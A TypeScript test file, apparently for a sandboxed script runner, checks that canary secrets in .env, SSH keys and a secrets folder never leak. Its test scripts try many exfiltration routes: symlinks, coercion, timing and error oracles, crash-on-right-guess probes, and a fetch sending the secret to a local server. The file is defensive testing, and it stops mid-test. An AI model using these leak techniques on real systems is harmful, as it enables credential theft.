// The secret test: a tree with a random canary in `.env`, `.ssh/id_rsa` and `secrets/`, and
// agent scripts that try every route to it. Afterwards the canary may be only in classified
// files and the secure sink: never in stdout, stderr or any ordinary file. Then the other
// side: the dual-use path (readClassified → map → writeClassified, printing to the sink)
// works byte for byte, and classifiedWrite: false stops every write to classified paths.

import { execFileSync, spawn } from "node:child_process";
import { existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { DEFAULT_CLASSIFIED_PATHS } from "../../runner/fs/classified-paths.js";
import { defaultConfig } from "../../runner/config.js";
import { collectedRun, runBypassed, tacitBin } from "../helpers.js";
import {
  ATTEMPT_PRELUDE,
  attemptOf,
  attempts,
  expectNoLeak,
  expectRefused,
  lit,
  makeCanary,
  realTempDir,
  tacit,
  writeTree,
} from "./fixtures.js";

const CLASSIFIED = [...DEFAULT_CLASSIFIED_PATHS, "secrets"];
const CLASSIFIED_FLAG = ["--classified-paths", CLASSIFIED.join(",")];
const MASK = "Classified(***)";

interface SecretWorld {
  base: string;
  /** The tree the script works in (its working directory and root). */
  root: string;
  /** The secure sink, outside the tree. */
  sink: string;
  canary: string;
  /** The tree's files as created, for "unchanged" checks. */
  original: Map<string, string>;
}

// Removed with the file, not after each test: a test of another suite runs beside the secret
// test's (see below), and its end must not remove a tree the other is still using.
const cleanups: Array<() => void> = [];
afterAll(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

function secretWorld(canary = makeCanary()): SecretWorld {
  const { dir: base, cleanup } = realTempDir("tacit-files-secret-");
  cleanups.push(cleanup);
  const root = path.join(base, "tree");
  const files = {
    ".env": `API_KEY=${canary}\nDEBUG=1\n`,
    ".ssh/id_rsa": `-----BEGIN KEY-----\n${canary}\n-----END KEY-----\n`,
    "secrets/key.txt": canary,
    "secrets/nested/deep.txt": `deep ${canary}\n`,
    "plain.txt": "nothing to see here\n",
    "src/app.ts": "export const port = 8080;\n",
  };
  writeTree(root, {
    ...files,
    // Ordinary-looking names that lead to secrets.
    "notes.txt": { symlink: ".ssh/id_rsa" },
    "keys": { symlink: "secrets" },
  });
  return { base, root, sink: path.join(base, "sink", "secure.log"), canary, original: new Map(Object.entries(files)) };
}

/** Classified by the patterns above: the only files under the tree the canary may be in. */
function isClassifiedFile(world: SecretWorld, file: string): boolean {
  const relative = path.relative(world.root, file);
  return relative.startsWith(".ssh/") || relative.startsWith("secrets/") || /^\.env(\..*)?$/.test(path.basename(relative));
}

function expectSecretsUnchanged(world: SecretWorld): void {
  for (const [name, content] of world.original) expect(readFileSync(path.join(world.root, name), "utf8"), name).toBe(content);
}

/** The canary is only in classified files under the tree and in the sink. */
/**
 * Runs the script made for a right guess of the secret's start and for a wrong one: each must
 * end the same, printing "done" and nothing else, whatever happened to the secret inside.
 */
async function runForEachGuess(world: SecretWorld, script: (guess: string) => string): Promise<Array<{ stdout: string; stderr: string }>> {
  const results = [];
  for (const guess of ["API_KEY=", "NOPE"]) {
    const r = await tacit(world.root, script(guess), [...CLASSIFIED_FLAG, "--secure-output", world.sink]);
    expect(r.stderr, guess).toBe("");
    expect(r.code, guess).toBe(0);
    expect(r.stdout, guess).toBe("done\n");
    results.push(r);
  }
  return results;
}

function expectOnlyInClassifiedAndSink(world: SecretWorld, seen: { stdout: string; stderr: string }): void {
  expectNoLeak(world.canary, seen, world.base, (file) => file === world.sink || isClassifiedFile(world, file));
}

// The file's longest test waits about 6 s for a slow value (below): its suite and the secret
// test's run side by side (describe.concurrent), the secret test's own tests one after another
// (it.sequential), as before. Each test has its own tree, canary and sink.
describe.concurrent("classified work waiting for a slow value", () => {
  // A security review exhausted the host's descriptors: each readClassified and writeClassified
  // kept its file open until a pending value was computed, so a few thousand calls behind a
  // slow map made every open in the host fail with EMFILE (other sessions' too). The CLI runs
  // here with 384 descriptors: the host keeps at most HELD_DESCRIPTORS_LIMIT, 256, open for the
  // calls, beside the 30-40 it uses anyway (at 280 it ran out), while 300 of each, held, would run
  // it out, as would 300 of either kind held beside 256 of the other. It was 600 of each under 512,
  // and 1,200 under 1024: more host calls for the same proof, and fewer of them fit in the pending
  // value's 6 s on a loaded machine.
  it("keeps a bounded number of files open: every call, and a read after them, succeeds; the values land", async () => {
    const DESCRIPTORS = 384;
    const CALLS = 300;
    const { dir: root, cleanup } = realTempDir("tacit-files-held-");
    try {
      const canary = makeCanary();
      writeFileSync(path.join(root, ".env"), `TOKEN=${canary}\n`);
      writeFileSync(path.join(root, "plain.txt"), "plain\n");
      const script = `
requestFileSystem(".", (fs) => {
  // Pending for about 6 s: four maps of 1.5 s each, one after the other (each well inside
  // the evaluator's 5 s limit per job, which also counts its start on a loaded machine). Each
  // waits (Atomics.wait) rather than spins: a job under way all the same, without a core.
  let slow = classify("slow");
  for (let i = 0; i < 4; i++) slow = slow.map((s) => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1500); return s; });
  fs.writeClassified(".env.first", slow);
  const counts = { read: 0, written: 0 };
  let last = fs.readClassified(".env");
  for (let i = 0; i < ${CALLS}; i++) { last = fs.readClassified(".env"); counts.read++; }
  for (let i = 0; i < ${CALLS}; i++) { fs.writeClassified(".env.w" + i, last); counts.written++; }
  // Deleted before its value is there: it must stay deleted (its coming back would tell).
  fs.writeClassified(".env.gone", slow);
  fs.access(".env.gone").delete();
  println(JSON.stringify(counts), fs.access("plain.txt").read().trim());
});
`;
      // The time limit is not what is tested: at the default 30 s, 2,400 such calls timed out (124)
      // on a machine with a load of 26 on 2 cores, where each host call took 10-30 ms.
      const child = spawn("sh", ["-c", `ulimit -n ${DESCRIPTORS} && exec "$0" "$@"`, process.execPath, tacitBin, "run", "--exec-timeout-ms", "100000", "-"], {
        cwd: root,
        stdio: ["pipe", "pipe", "pipe"],
      });
      const r = await collectedRun(child, script);
      expect(r.stdout + r.stderr, "the host ran out of descriptors").not.toContain("EMFILE");
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout.trim()).toBe(`${JSON.stringify({ read: CALLS, written: CALLS })} plain`);
      // Written through a descriptor kept open and through one opened later alike.
      expect(readFileSync(path.join(root, ".env.first"), "utf8")).toBe("slow");
      expect(readFileSync(path.join(root, ".env.w0"), "utf8")).toBe(`TOKEN=${canary}\n`);
      expect(readFileSync(path.join(root, `.env.w${CALLS - 1}`), "utf8")).toBe(`TOKEN=${canary}\n`);
      expect(existsSync(path.join(root, ".env.gone")), "a classified file deleted before its value came back").toBe(false);
    } finally {
      cleanup();
    }
  }, 120_000);
});

describe.concurrent("the secret test", () => {
  it.sequential("no route reveals a classified file's content to the script", async () => {
    const world = secretWorld();
    const secretPaths = [
      ".env", ".ssh/id_rsa", "secrets/key.txt", "secrets/nested/deep.txt", "notes.txt", "keys/key.txt",
      path.join(world.root, ".env"), "src/../.env", "./secrets//key.txt", ".ssh", "secrets",
    ];
    const script = `${ATTEMPT_PRELUDE}
let escaped: Classified<string> | null = null;
requestFileSystem(".", (fs) => {
  // Every ordinary read of a classified path.
  for (const p of ${JSON.stringify(secretPaths)}) {
    attempt("read " + p, () => fs.access(p).read());
    attempt("readBytes " + p, () => Array.from(fs.access(p).readBytes()));
    attempt("readLines " + p, () => fs.access(p).readLines());
    attempt("forEachLine " + p, () => { const seen: string[] = []; fs.access(p).forEachLine((l) => seen.push(l)); return seen; });
    attempt("size " + p, () => fs.access(p).size);
    attempt("grep " + p, () => fs.grep(p, "."));
    attempt("isClassified " + p, () => fs.access(p).isClassified);
  }
  // Searching.
  attempt("grepRecursive all", () => fs.grepRecursive(".", "."));
  attempt("grepRecursive key names", () => fs.grepRecursive(".", "API_KEY|BEGIN|deep|canary"));
  attempt("grepRecursive glob .env", () => fs.grepRecursive(".", ".", ".env"));
  attempt("grepRecursive glob txt", () => fs.grepRecursive(".", ".", "*.txt"));
  attempt("grepRecursive glob slash", () => fs.grepRecursive(".", ".", "secrets/**"));
  attempt("grepRecursive glob any", () => fs.grepRecursive(".", ".", "**"));
  attempt("grepRecursive in secrets", () => fs.grepRecursive("secrets", "."));
  attempt("grepRecursive in .ssh", () => fs.grepRecursive(".ssh", "."));
  attempt("grepRecursive in keys", () => fs.grepRecursive("keys", "."));
  // find + read, walk + read.
  for (const p of fs.find(".", "*")) attempt("find+read " + p, () => fs.access(p).read());
  for (const e of fs.access(".").walk()) {
    attempt("walk+readBytes " + e.path, () => Array.from(e.readBytes()));
    attempt("walk+size " + e.path, () => e.size);
  }

  // A Classified value, every way of looking at it.
  const secret = fs.readClassified(".env");
  const key = fs.readClassified("secrets/key.txt");
  escaped = key;
  println("println", secret, key);
  print("print", secret, "\\n");
  printf("printf %s %d %i %f %o %O %j %x|\\n", secret, secret, secret, secret, secret, secret, secret, secret);
  console.log("log", secret, { secret }, [secret], { deep: { list: [key] } });
  console.info("info", secret);
  console.debug("debug", secret);
  console.warn("warn", secret);
  console.error("error", secret);
  console.dir(secret);
  console.dir({ secret });
  console.table([secret]);
  console.table({ secret });
  console.assert(false, secret);
  console.group(secret);
  console.groupEnd();
  console.count(String(secret));
  attempt("String", () => String(secret));
  attempt("template", () => \`\${secret}\`);
  attempt("plus", () => secret + "");
  attempt("toString", () => secret.toString());
  attempt("JSON", () => JSON.stringify(secret));
  attempt("JSON object", () => JSON.stringify({ secret, list: [key] }));
  attempt("join", () => [secret, key].join());
  attempt("String array", () => String([secret]));
  attempt("keys", () => Object.keys(secret));
  attempt("ownKeys", () => Reflect.ownKeys(secret).map(String));
  attempt("entries", () => Object.entries(secret));
  attempt("descriptors", () => Object.getOwnPropertyDescriptors(secret));
  attempt("spread", () => ({ ...secret }));
  attempt("structuredClone", () => structuredClone(secret));
  attempt("valueOf", () => String(secret.valueOf()));
  attempt("classify a handle", () => classify(secret));
  attempt("classify a handle in an object", () => classify({ s: secret }));

  // Copies to ordinary files.
  attempt("writeClassified ordinary", () => fs.writeClassified("copy.txt", secret.map((s) => s)));
  attempt("writeClassified ordinary flatMap", () => fs.writeClassified("src/copy.txt", secret.flatMap((s) => classify(s + "!"))));
  attempt("entry writeClassified ordinary", () => fs.access("copy2.txt").writeClassified(key));
  attempt("writeClassified dotdot", () => fs.writeClassified("secrets/../copy3.txt", key));
  attempt("writeClassified via link dotdot", () => fs.writeClassified("keys/../copy4.txt", key));
  attempt("write String", () => { fs.access("plain-out.txt").write(String(secret)); fs.access("plain-out.txt").append(\`\${key}\` + JSON.stringify({ secret })); return fs.access("plain-out.txt").read(); });
  attempt("write handle as string", () => { fs.access("plain-out2.txt").write(secret as unknown as string); return fs.access("plain-out2.txt").read(); });

  // Failures inside map: thrown errors, an error oracle, a bad path built from the value.
  const boom = secret.map((s): string => { throw new Error(s); });
  println("boom", boom);
  fs.writeClassified("secrets/boom.txt", boom);
  const oracle = secret.map((s) => { if (s.includes("API_KEY")) throw new Error("yes"); return "no"; });
  println("oracle", oracle);
  attempt("oracle write", () => fs.writeClassified("secrets/oracle.txt", oracle));
  const parsed = secret.map((s) => JSON.parse(s) as unknown);
  println("parsed", parsed);
  attempt("error with secret", () => { throw new Error("message " + secret); });
  attempt("path from secret", () => fs.access(\`\${secret}\`).read());
  attempt("pattern from secret", () => fs.grep("plain.txt", String(key)));
  attempt("length", () => secret.map((s) => s.length).toString());
});
throw new Error("uncaught " + escaped);
`;
    const r = await tacit(world.root, script, [...CLASSIFIED_FLAG, "--secure-output", world.sink]);
    // The script ends by throwing: its message reaches stderr, masked.
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("uncaught Classified(***)");
    expectOnlyInClassifiedAndSink(world, r);
    expectSecretsUnchanged(world);

    const found = attempts(r.stdout);
    for (const p of secretPaths) {
      expectRefused(found, ["read", "readBytes", "readLines", "forEachLine", "size", "grep"].map((op) => `${op} ${p}`), /classified/);
      expect(attemptOf(found, `isClassified ${p}`)).toEqual({ status: "ok", value: true });
    }
    const ordinary = ["plain.txt", "src/app.ts"].map((n) => path.join(world.root, n));
    const filesOf = (label: string) => [...new Set((attemptOf(found, label).value as Array<{ file: string }>).map((m) => m.file))];
    expect(filesOf("grepRecursive all")).toEqual(ordinary);
    expect(attemptOf(found, "grepRecursive key names").value).toEqual([]);
    for (const label of ["grepRecursive glob .env", "grepRecursive glob slash", "grepRecursive in secrets", "grepRecursive in .ssh", "grepRecursive in keys"]) {
      expect(attemptOf(found, label), label).toEqual({ status: "ok", value: [] });
    }
    expect(filesOf("grepRecursive glob txt")).toEqual([path.join(world.root, "plain.txt")]);
    expect(filesOf("grepRecursive glob any")).toEqual(ordinary);
    // find/walk list the classified names, but reading them is refused.
    const classifiedFiles = [".env", ".ssh/id_rsa", "secrets/key.txt", "secrets/nested/deep.txt", "notes.txt", "keys"];
    for (const name of classifiedFiles) {
      const p = path.join(world.root, name);
      expectRefused(found, [`find+read ${p}`, `walk+readBytes ${p}`, `walk+size ${p}`], /classified/);
    }
    expect(attemptOf(found, `find+read ${path.join(world.root, "plain.txt")}`)).toEqual({ status: "ok", value: "nothing to see here\n" });

    // Every view of a handle is the mask.
    for (const label of ["String", "template", "plus", "toString", "valueOf", "length"]) {
      expect(attemptOf(found, label), label).toEqual({ status: "ok", value: MASK });
    }
    expect(attemptOf(found, "JSON")).toEqual({ status: "ok", value: JSON.stringify(MASK) });
    expect(attemptOf(found, "JSON object")).toEqual({ status: "ok", value: JSON.stringify({ secret: MASK, list: [MASK] }) });
    expect(attemptOf(found, "join")).toEqual({ status: "ok", value: `${MASK},${MASK}` });
    expect(attemptOf(found, "keys")).toEqual({ status: "ok", value: [] });
    expect(attemptOf(found, "ownKeys")).toEqual({ status: "ok", value: [] });
    expect(attemptOf(found, "classify a handle").status).toBe("TypeError");
    expect(attemptOf(found, "classify a handle in an object").status).toBe("TypeError");
    const lines = r.stdout.split("\n");
    expect(lines).toContain(`println ${MASK} ${MASK}`);
    expect(lines).toContain(`print ${MASK} `);
    expect(lines).toContain(`printf ${MASK} NaN NaN NaN ${MASK} ${MASK} "${MASK}" NaN|`);
    expect(lines).toContain(`log ${MASK} { secret: ${MASK} } [ ${MASK} ] { deep: { list: [ ${MASK} ] } }`);
    expect(lines).toContain(`error ${MASK}`);
    expect(lines).toContain(`boom ${MASK}`);
    expect(lines).toContain(`oracle ${MASK}`);

    // Copies to ordinary paths are refused; writing the value as text writes the mask.
    expectRefused(
      found,
      ["writeClassified ordinary", "writeClassified ordinary flatMap", "entry writeClassified ordinary", "writeClassified dotdot", "writeClassified via link dotdot"],
      /writeClassified\(\) refused: the path is not classified/,
    );
    for (const name of ["copy.txt", "src/copy.txt", "copy2.txt", "copy3.txt", "copy4.txt"]) expect(existsSync(path.join(world.root, name)), name).toBe(false);
    expect(readFileSync(path.join(world.root, "plain-out.txt"), "utf8")).toBe(`${MASK}${MASK}{"secret":"${MASK}"}`);
    expect(readFileSync(path.join(world.root, "plain-out2.txt"), "utf8")).toBe(MASK);
    // A map that failed leaves its file empty: the file exists as for any value (whether it
    // exists must not tell the script whether the map failed), and nothing of the secret is in it.
    expect(readFileSync(path.join(world.root, "secrets/boom.txt"), "utf8")).toBe("");
    expect(attemptOf(found, "oracle write")).toEqual({ status: "ok", value: null });
    expect(attemptOf(found, "error with secret")).toEqual({ status: "Error", value: `message ${MASK}` });

    // The sink is where the plaintext went, and the failures.
    const sink = readFileSync(world.sink, "utf8");
    expect(sink).toContain(`println API_KEY=${world.canary}\nDEBUG=1\n ${world.canary}\n`);
    expect(sink).toContain(`map failed: Error: API_KEY=${world.canary}`);
  });

  it.sequential("writeClassified is no oracle: the file exists at once whether the map failed or not, and no later call waits for it", async () => {
    // The attack that recovered a whole secret: guess a prefix in map (fail when wrong), write
    // the result, and ask whether the file exists; or make the map slow when the guess is
    // right and time a later call. Both must read the same for every guess.
    const world = secretWorld();
    const script = `
requestFileSystem(".", (fs) => {
  const secret = fs.readClassified(".env");
  const seen: string[] = [];
  for (const guess of ["API_KEY=", "NOPE"]) {
    const probe = secret.map((v) => { if (!v.startsWith(guess)) throw new Error("no"); return "x"; });
    if (fs.access("secrets/probe.txt").exists) fs.access("secrets/probe.txt").delete();
    fs.writeClassified("secrets/probe.txt", probe);
    seen.push(guess + ":" + fs.access("secrets/probe.txt").exists);
    // Slow only when the guess is right: a later call must not wait for it.
    // Waits (Atomics.wait) rather than spins: as slow, without a core.
    const slow = secret.map((v) => { if (v.startsWith(guess)) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1500); return "y"; });
    fs.writeClassified("secrets/slow-" + guess.length + ".txt", slow);
    const started = Date.now();
    fs.access("plain.txt").exists;
    fs.readClassified("secrets/probe.txt");
    seen.push(guess + ":" + (Date.now() - started < 1000 ? "quick" : "waited"));
  }
  println(seen.join(" "));
});
`;
    const r = await tacit(world.root, script, [...CLASSIFIED_FLAG, "--secure-output", world.sink]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout).toBe("API_KEY=:true API_KEY=:quick NOPE:true NOPE:quick\n");
    expectOnlyInClassifiedAndSink(world, r);
    // The slow value was still written before the run ended; the failed one left its file empty.
    expect(readFileSync(path.join(world.root, "secrets/slow-8.txt"), "utf8")).toBe("y");
    expect(readFileSync(path.join(world.root, "secrets/probe.txt"), "utf8")).toBe("");
  });

  it.sequential("a classified file read after a classified write reads what was written", async () => {
    const world = secretWorld();
    const script = `
requestFileSystem(".", (fs) => {
  const secret = fs.readClassified(".env");
  fs.writeClassified("secrets/first-line.txt", secret.map((v) => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 300); return v.split("\\n")[0]!; }));
  println(fs.readClassified("secrets/first-line.txt"));
});
`;
    const r = await tacit(world.root, script, [...CLASSIFIED_FLAG, "--secure-output", world.sink]);
    expect(r.stderr).toBe("");
    expect(r.stdout).toBe(`${MASK}\n`);
    expect(readFileSync(world.sink, "utf8")).toContain(`API_KEY=${world.canary}\n`);
  });

  it.sequential("many classified writes, each read back: every read sees the write before it", async () => {
    const world = secretWorld();
    // Each round writes the value read in the round before, one character longer: the last
    // file holds 300 characters only if every read waited for the write before it (a read that
    // did not wait reads the value before, since a map runs in another process).
    const script = `
requestFileSystem(".", (fs) => {
  fs.writeClassified("secrets/chain.txt", classify(""));
  for (let i = 0; i < 300; i++) fs.writeClassified("secrets/chain.txt", fs.readClassified("secrets/chain.txt").map((v) => v + "x"));
  println("done");
});
`;
    const r = await tacit(world.root, script, CLASSIFIED_FLAG);
    expect(r.stderr).toBe("");
    expect(r.stdout).toBe("done\n");
    expect(readFileSync(path.join(world.root, "secrets/chain.txt"), "utf8")).toBe("x".repeat(300));
  });

  it.sequential("a map that never ends does not stop the script, and shows nothing", async () => {
    const world = secretWorld();
    const script = `
requestFileSystem(".", (fs) => {
  const secret = fs.readClassified(".env");
  const stuck = secret.map((s): string => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return s; });
  println("stuck", stuck);
  fs.writeClassified("secrets/stuck.txt", stuck);
  fs.writeClassified("secrets/after.txt", secret.map((s) => String(s.split("\\n")[0]!.length)));
  println("finished");
});
`;
    // The stuck map never returns, until the evaluator's limit per function ends it: 1 s here
    // rather than the default 5 s (the limit counts from when the evaluator is ready, so the
    // replacement's start takes none of the next map's second). It blocks, synchronously and
    // without end, rather than spins: the limit is the host's clock, which ends the evaluator
    // either way, and a spin burned a core for that second, for nothing more.
    const config = path.join(world.base, "short-map-limit.json");
    writeFileSync(config, JSON.stringify({ pureJobTimeoutMs: 1000 }));
    const r = await tacit(world.root, script, ["--config", config, ...CLASSIFIED_FLAG, "--secure-output", world.sink, "--exec-timeout-ms", "20000"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`stuck ${MASK}\nfinished\n`);
    expectOnlyInClassifiedAndSink(world, r);
    expect(readFileSync(path.join(world.root, "secrets/stuck.txt"), "utf8")).toBe("");
    // The evaluator is replaced after the kill: the next map still works.
    expect(readFileSync(path.join(world.root, "secrets/after.txt"), "utf8")).toBe(String(`API_KEY=${world.canary}`.length));
    expect(readFileSync(world.sink, "utf8")).toMatch(/map failed: .*longer than/);
  });

  it.sequential("a map result nested too deeply for the host to stringify fails out of sight, not by ending the host", async () => {
    // The map answers, when its guess is right, with a value nested 200,000 deep (it replaced the
    // evaluator's JSON.stringify to, before map functions ran in a frozen realm of their own; the
    // evaluator's own stringify writes it as well): the host crashed on it (exit 1), and only then.
    const world = secretWorld();
    const script = (guess: string): string => `
requestFileSystem(".", (fs) => {
  const secret = fs.readClassified(".env");
  const probe = secret.map((text) => {
    let value: unknown = "x";
    if (text.startsWith(${lit(guess)})) for (let depth = 0; depth < 200000; depth++) value = [value];
    return value;
  });
  fs.writeClassified("secrets/probe.txt", probe);
  println("done");
});
`;
    for (const r of await runForEachGuess(world, script)) expectOnlyInClassifiedAndSink(world, r);
    expect(readFileSync(world.sink, "utf8")).toMatch(/map failed: .*nested deeper than/);
  });

  it.sequential("a map capturing one large value under many names neither ends the host nor fails, whatever the guess", async () => {
    // The first map makes a value of 10 million characters only when its guess is right; the
    // second captures it under 56 names. Its job carried the value once per name, longer than a
    // string may be (2^29 - 24 characters): the host crashed building it (exit 1), and only then;
    // later, that failed out of sight. A job now carries each captured value once
    // (test/attacks/map-capture-copies.test.ts): it goes through, and computes, for either guess.
    const world = secretWorld();
    const names = Array.from({ length: 56 }, (_, i) => `b${i}`);
    const script = (guess: string): string => `
requestFileSystem(".", (fs) => {
  const secret = fs.readClassified(".env");
  const big = secret.map((text) => (text.startsWith(${lit(guess)}) ? "x".repeat(10_000_000) : ""));
  const ${names.map((name) => `${name} = big`).join(", ")};
  const probe = big.map((v) => String(v.length + [${names.join(", ")}].length));
  fs.writeClassified(${lit(`secrets/probe-${guess}.txt`)}, probe);
  println("done");
});
`;
    await runForEachGuess(world, script);
    expect(readFileSync(world.sink, "utf8")).not.toContain("could not be sent");
    // The right guess's value was large, the wrong one's empty: each job went through with its value.
    expect(readFileSync(path.join(world.root, "secrets/probe-API_KEY=.txt"), "utf8")).toBe(String(10_000_000 + 56));
    expect(readFileSync(path.join(world.root, "secrets/probe-NOPE.txt"), "utf8")).toBe("56");
  }, 60_000);

  it.sequential("whatever the pure evaluator prints, throws or exits with stays out of the result (validator bypassed)", async () => {
    const world = secretWorld();
    let connections = 0;
    const server = net.createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    cleanups.push(() => server.close());
    const port = (server.address() as net.AddressInfo).port;
    const code = `
requestFileSystem(${lit(world.root)}, (fs) => {
  const secret = fs.readClassified(".env");
  const values = [
    secret.map((s) => { Function("return console")().log(s); return s; }),
    secret.map((s) => { Function("return console")().error(s); return s; }),
    secret.map((s) => { throw new Error(s); }),
    secret.map((s) => Promise.reject(new Error(s))),
    secret.map((s) => { const g = Function("return this")(); if (g.Deno) g.Deno.exit(s.length); return s; }),
    secret.map((s) => { const g = Function("return this")(); return typeof g.Deno + typeof g.Worker + s.length; }),
    secret.map((s) => { fetch("http://127.0.0.1:${port}/" + encodeURIComponent(s)).catch(() => {}); return s; }),
  ];
  for (const v of values) println(v);
  fs.writeClassified("secrets/globals.txt", values[5]);
  println("done");
});
`;
    const result = await runBypassed(code, {
      config: {
        executionTimeoutMs: 20_000,
        library: { ...defaultConfig.library, allowedRoots: [world.root], classifiedPaths: CLASSIFIED, secureOutput: world.sink },
      },
    });
    expect(result.error).toBeNull();
    expect(result.stdout).toBe(`${MASK}\n`.repeat(7) + "done\n");
    expectOnlyInClassifiedAndSink(world, { stdout: result.stdout, stderr: result.error ?? "" });
    // The pure evaluator has no Deno and no Worker, and its fetch reaches nothing.
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(connections, "the pure evaluator reached the network").toBe(0);
    expect(readFileSync(path.join(world.root, "secrets/globals.txt"), "utf8")).toBe(`undefinedundefined${`API_KEY=${world.canary}\nDEBUG=1\n`.length}`);
  });

  it.sequential("a classified name that links to an ordinary file is not a way to copy a secret out", async () => {
    const world = secretWorld();
    writeTree(world.root, {
      "config/env.txt": "shared=1\n",
      ".env.shared": { symlink: "config/env.txt" },
      "config/aws": { dir: true },
      ".aws": { symlink: "config/aws" },
    });
    const script = `${ATTEMPT_PRELUDE}
requestFileSystem(".", (fs) => {
  const key = fs.readClassified(".ssh/id_rsa");
  attempt("isClassified link", () => fs.access(".env.shared").isClassified);
  attempt("writeClassified through a file link", () => fs.writeClassified(".env.shared", key));
  attempt("writeClassified through a dir link", () => fs.writeClassified(".aws/credentials", key));
  attempt("read the link target", () => fs.access("config/env.txt").read());
  attempt("read the dir target", () => fs.access("config/aws/credentials").read());
  attempt("grepRecursive config", () => fs.grepRecursive("config", "."));
});
`;
    const r = await tacit(world.root, script, CLASSIFIED_FLAG);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const found = attempts(r.stdout);
    expect(attemptOf(found, "isClassified link")).toEqual({ status: "ok", value: true });
    // The secret may not land in a file that is readable by an ordinary name.
    expect.soft(readFileSync(path.join(world.root, "config/env.txt"), "utf8"), "written through .env.shared").toBe("shared=1\n");
    expect.soft(existsSync(path.join(world.root, "config/aws/credentials")), "written through .aws").toBe(false);
    expectNoLeak(world.canary, r, world.base, (file) => isClassifiedFile(world, file));
  });
});

describe("the dual-use path", () => {
  it("readClassified → map → writeClassified writes exactly the computed bytes; printing puts the plaintext in the sink", async () => {
    const password = `${makeCanary()}-ü✓\t"q"\\`;
    const world = secretWorld();
    const envText = `DB_USER=admin\nDB_PASS=${password}\n`;
    writeFileSync(path.join(world.root, ".env"), envText);
    const script = `
requestFileSystem(".", (fs) => {
  const env = fs.readClassified(".env");
  const parse = (key: string) => env.map((text) => {
    for (const line of text.split("\\n")) {
      const eq = line.indexOf("=");
      if (eq > 0 && line.slice(0, eq) === key) return line.slice(eq + 1);
    }
    return "";
  });
  const pass = env.map((text) => text.split("\\n").find((l) => l.startsWith("DB_PASS="))!.slice("DB_PASS=".length));
  const user = env.map((text) => text.split("\\n")[0]!.split("=")[1]!);
  const scheme = "pg://";
  const url = user.flatMap((u) => pass.map((p) => scheme + u + ":" + p + "@db"));
  fs.writeClassified("secrets/db_pass.txt", pass);
  fs.writeClassified(".env.upper", env.map((t) => t.toUpperCase()));
  fs.writeClassified("secrets/url.txt", url);
  fs.access("secrets/literal.txt").writeClassified(classify("literal ✓"));
  fs.writeClassified("secrets/json.txt", classify({ k: "v", n: [1, 2] }).map((o) => JSON.stringify(o)));
  fs.writeClassified(".ssh/length", pass.map((p) => String(p.length)));
  println("db password:", pass);
  printf("url=%s\\n", url);
  console.log("mixed", 42, { n: 1 }, user);
  print("no newline", pass);
  println();
  println(typeof parse);
});
`;
    const r = await tacit(world.root, script, [...CLASSIFIED_FLAG, "--secure-output", world.sink]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`db password: ${MASK}\nurl=${MASK}\nmixed 42 { n: 1 } ${MASK}\nno newline ${MASK}\nfunction\n`);
    const read = (name: string) => readFileSync(path.join(world.root, name), "utf8");
    expect(read("secrets/db_pass.txt")).toBe(password);
    expect(read(".env.upper")).toBe(envText.toUpperCase());
    expect(read("secrets/url.txt")).toBe(`pg://admin:${password}@db`);
    expect(read("secrets/literal.txt")).toBe("literal ✓");
    expect(read("secrets/json.txt")).toBe('{"k":"v","n":[1,2]}');
    expect(read(".ssh/length")).toBe(String(password.length));
    expect(readFileSync(world.sink)).toEqual(
      Buffer.from(`db password: ${password}\nurl=pg://admin:${password}@db\nmixed 42 { n: 1 } admin\nno newline ${password}\nfunction\n`, "utf8"),
    );
    expect(statSync(world.sink).mode & 0o777).toBe(0o600);
  });
});

describe("classifiedWrite: false", () => {
  it("denies write, append, mkdir, delete and writeClassified on classified paths; readClassified still works", async () => {
    const world = secretWorld();
    const config = path.join(world.base, "config.json");
    writeFileSync(config, JSON.stringify({ libraryConfig: { classifiedWrite: false } }));
    const script = `${ATTEMPT_PRELUDE}
requestFileSystem(".", (fs) => {
  attempt("write .env", () => fs.access(".env").write("x"));
  attempt("append .env", () => fs.access(".env").append("x"));
  attempt("write new .env.local", () => fs.access(".env.local").write("x"));
  attempt("write .ssh/new", () => fs.access(".ssh/new").write("x"));
  attempt("write through link", () => fs.access("notes.txt").write("x"));
  attempt("append through dir link", () => fs.access("keys/key.txt").append("x"));
  attempt("mkdir .ssh/sub", () => fs.access(".ssh/sub").mkdir());
  attempt("mkdir secrets/new/deep", () => fs.access("secrets/new/deep").mkdir());
  attempt("mkdir src/.ssh", () => fs.access("src/.ssh").mkdir());
  attempt("delete id_rsa", () => fs.access(".ssh/id_rsa").delete());
  attempt("delete .env", () => fs.access(".env").delete());
  attempt("delete secrets/key.txt", () => fs.access("secrets/key.txt").delete());
  const secret = fs.readClassified(".env");
  attempt("writeClassified", () => fs.writeClassified(".env.copy", secret));
  attempt("writeClassified mapped", () => fs.writeClassified("secrets/copy.txt", secret.map((s) => s.trim())));
  attempt("ordinary write", () => { fs.access("src/out.txt").write("fine"); return fs.access("src/out.txt").read(); });
  attempt("ordinary mkdir", () => { fs.access("src/newdir").mkdir(); return fs.access("src/newdir").isDirectory; });
  println("secret:", secret);
});
`;
    const r = await tacit(world.root, script, ["--config", config, ...CLASSIFIED_FLAG, "--secure-output", world.sink]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const found = attempts(r.stdout);
    expectRefused(
      found,
      [
        "write .env", "append .env", "write new .env.local", "write .ssh/new", "write through link", "append through dir link",
        "mkdir .ssh/sub", "mkdir secrets/new/deep", "mkdir src/.ssh", "delete id_rsa", "delete .env", "delete secrets/key.txt",
        "writeClassified", "writeClassified mapped",
      ],
      /classifiedWrite is off/,
    );
